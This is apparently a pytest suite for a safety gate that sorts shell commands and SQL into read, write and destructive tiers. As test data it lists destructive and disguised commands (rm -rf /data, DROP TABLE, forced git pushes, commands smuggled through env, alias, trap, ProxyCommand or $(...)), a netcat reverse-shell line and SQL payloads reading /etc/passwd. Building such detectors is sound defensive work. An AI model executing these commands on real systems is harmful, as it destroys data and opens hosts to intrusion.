"""Commands that were dressed up as a read, and commands that a gate must not take for more."""

from __future__ import annotations

import pytest

from aftershock.model import Tier
from aftershock.policy.policy import Policy
from aftershock_collector.control.actions import describe_action
from aftershock_collector.control.shell import read_script
from aftershock_collector.reading.sql import read_sql

DESTRUCTIVE = [
    # the second of two, where the first was looked at
    r"find . -exec ls {} \; -exec rm -rf {} \;",
    r"find . -exec ls {} \; -delete",
    "psql -c 'SELECT 1' -c 'DROP TABLE x'",
    "sqlite3 db 'select 1' 'drop table x'",
    "kubectl delete ns prod --dry-run=client --dry-run=none",
    # a value taken for a verb
    "kubectl --as-group get delete ns prod",
    "kubectl -v 6 delete ns prod",
    "kubectl --request-timeout 30s delete ns prod",
    "kubectl --some-new-option get delete ns prod",
    "kubectl delete deployment exec payments ls",
    "redis-cli -h info flushall",
    "docker --context prod rm x",
    "docker compose -f p.yml down",
    "docker compose -p ps down",
    "docker system prune -af",
    "helm --kube-context x uninstall y",
    "git --git-dir x push --force",
    "aws --output json --color off --ca-bundle x ec2 terminate-instances --instance-ids i",
    # clusters of options
    "psql -tAc 'DROP TABLE x'",
    "mysql -Nse 'DROP TABLE x'",
    "sudo -Eu postgres psql -c 'DROP TABLE x'",
    "exec -cla ls rm -rf /data",
    "curl -sX DELETE http://x",
    "git push -uf origin main",
    # a command inside another
    "env --split-string='rm -rf /data'",
    "env '-Srm -rf /data'",
    'watch "rm -rf /data/ls"',
    "docker exec db rm -rf -- id",
    "ssh web find /data -delete",
    "ssh -c aes host rm -rf /data",
    "sudo --user ls rm -rf /data",
    "xargs --arg-file id rm -f",
    "busybox rm -rf /data",
    'su root -c "rm -rf /data"',
    "alias ls='rm -rf /data'; ls",
    "trap 'rm -rf /data' EXIT",
    "GIT_SSH_COMMAND='rm -rf /data' git fetch",
    # other ways to say the same
    "git push --force-with-lease",
    "git push origin +main",
    "git push origin :main",
    "git stash clear",
    "terraform apply -destroy",
    "terraform state rm a",
    "aws s3 sync . s3://b --delete",
    "aws kms schedule-key-deletion --key-id x",
    "rsync -a --delete a/ b/",
    "systemctl stop postgresql",
    "kubectl replace --force -f x",
    # what cannot be followed is as grave as its words
    "rm -rf /data # " + "x" * 60_000,
    "rm -rf /data; " + "$(ls " * 5_000 + ")" * 5_000,
]
WRITE = [
    "git fetch --upload-pack='touch x' o",
    "git grep -Otouch x",
    "git log --output=x",
    "hostname new",
    "date -s 2020-01-01",
    "yq -i .a=1 f",
    "xxd -r a b",
    "uniq a b",
    "sort -uo f f",
    "nc -e /bin/sh h 1",
    "journalctl --vacuum-size=1",
    "ss -K dst 1.2.3.4",
    "rg --pre touch x",
    "curl -sXPOST http://x",
    "curl -sd a=b http://x",
    "curl -so f http://x",
    "sed -Ei s/a/b/ f",
    "sed 's/a/b/w out.txt' f",
    "sed '1e touch x' f",
    "sed -n -e '1e touch x' f",
    """awk 'BEGIN{system ("touch x")}'""",
    """awk -v a=1 'BEGIN{system("touch x")}'""",
    """awk -F : 'BEGIN{system("x")}' f""",
    "awk -fprog f",
    "bash evil.sh -c ls",
    "./ls",
    "/tmp/cat x",
    "X=-delete; find /data $X",
    "echo -delete | xargs find /data",
    "echo flushall | redis-cli",
    "kubectl run p --image=a -- touch --dry-run",
    "kubectl auth reconcile -f x",
    "aws lambda invoke --function-name get-x out.json",
    "aws lambda update-function-code --function-name list-users",
    "aws s3 cp headlines.txt s3://b/",
    "gcloud compute instances update list-server",
    "az vm deallocate --name show-vm",
    "psql -c 'SELECT 1' -f evil.sql",
    r"psql -c 'select 1 \gexec'",
    "ssh -o ProxyCommand='touch x' h ls",
    "LD_PRELOAD=x.so ls",
    "export PAGER='touch x'; git log",
    """x='$(touch y)'; echo "${x@P}" """,
    "test -v 'a[$(touch x)]'",
    "unset 'a[$(touch x)]'",
]
READ = [
    "git config --list",
    "git remote -v && git branch -a && git tag && git stash list",
    "git --no-pager log main",
    "docker compose -f x.yml ps",
    "docker --context prod ps",
    "kubectl --request-timeout=5s get pods --as-group x",
    "kubectl -n shop exec web-0 -c app -- ls /tmp",
    "curl -s -o /dev/null -w '%{http_code}' http://x",
    "curl -fsSL -H 'A: b' http://x",
    "aws --output json ec2 describe-instances",
    "gcloud compute instances list --format json",
    "az vm list -o table",
    "sed 's/a b/c d/g' f",
    r"sed -E 's/(a|b)/\1/;s/x/y/' f",
    "awk -F: '{print $1, $NF}' f",
    "sort -t, -k2 -n f",
    "journalctl -u nginx --since today",
    "date -d yesterday +%s",
    "psql -tAc 'select 1'",
    "mysql -uroot -psecret -e 'select 1' shop",
    "nc -zv host 80",
    r"find . -name '*.py' -exec grep -l x {} \;",
    '[ "$x" = y ] && echo "$(date) done"',
    "systemctl --user status x",
    ".venv/bin/pytest -q tests",
]


@pytest.mark.parametrize("command", DESTRUCTIVE)
def test_what_destroys_is_found_in_every_dress(command: str) -> None:
    assert read_script(command).tier is Tier.DESTRUCTIVE


@pytest.mark.parametrize("command", WRITE)
def test_a_program_that_reads_writes_with_other_words(command: str) -> None:
    assert read_script(command).tier is Tier.WRITE


@pytest.mark.parametrize("command", READ)
def test_what_people_do_all_day_stays_a_read(command: str) -> None:
    assert read_script(command).tier is Tier.READ


@pytest.mark.parametrize(
    ("text", "tier"),
    [
        ("COMMIT; DROP SCHEMA public CASCADE", Tier.DESTRUCTIVE),
        ("/* x */ DELETE FROM users", Tier.DESTRUCTIVE),
        (";DELETE FROM users", Tier.DESTRUCTIVE),
        ("DO $$ BEGIN DELETE FROM users; END $$", Tier.DESTRUCTIVE),
        ("EXPLAIN (ANALYZE, BUFFERS) DELETE FROM users", Tier.DESTRUCTIVE),
        ("SELECT 'a\\'' ; DELETE FROM users; -- '", Tier.DESTRUCTIVE),
        ("SELECT '\\'; DELETE FROM users; --'", Tier.DESTRUCTIVE),
        ("SELECT 1 /*! ; DROP TABLE x */", Tier.DESTRUCTIVE),
        ("/*!50000 DELETE FROM users */", Tier.DESTRUCTIVE),
        ("/* /* */ DELETE FROM users; -- */", Tier.DESTRUCTIVE),
        ("DELETE FROM users -- " + "x" * 30_000, Tier.DESTRUCTIVE),
        ("COPY t FROM PROGRAM 'touch x'", Tier.WRITE),
        ("CALL wipe()", Tier.WRITE),
        ("SELECT load_file('/etc/passwd')", Tier.WRITE),
        ("SET GLOBAL read_only = 0", Tier.WRITE),
        ("SELECT x FROM t WHERE a = 'drop table b'", Tier.READ),
        ("SELECT now()", Tier.READ),
    ],
)
@pytest.mark.parametrize("key", ["sql", "query"])
def test_a_tool_that_queries_is_judged_by_its_statements(key: str, text: str, tier: Tier) -> None:
    assert describe_action(Policy(), "query", {key: text}).tier is tier


def test_the_search_for_words_of_sql_stays_a_read() -> None:
    for text in ("update on the merger", "select a good restaurant", "drop shipping"):
        assert describe_action(Policy(), "web_search", {"query": text}).tier is Tier.READ


def test_a_known_dialect_is_not_read_as_another() -> None:
    assert read_sql("select data #>> '{a}' from t", "postgres").tier is Tier.READ
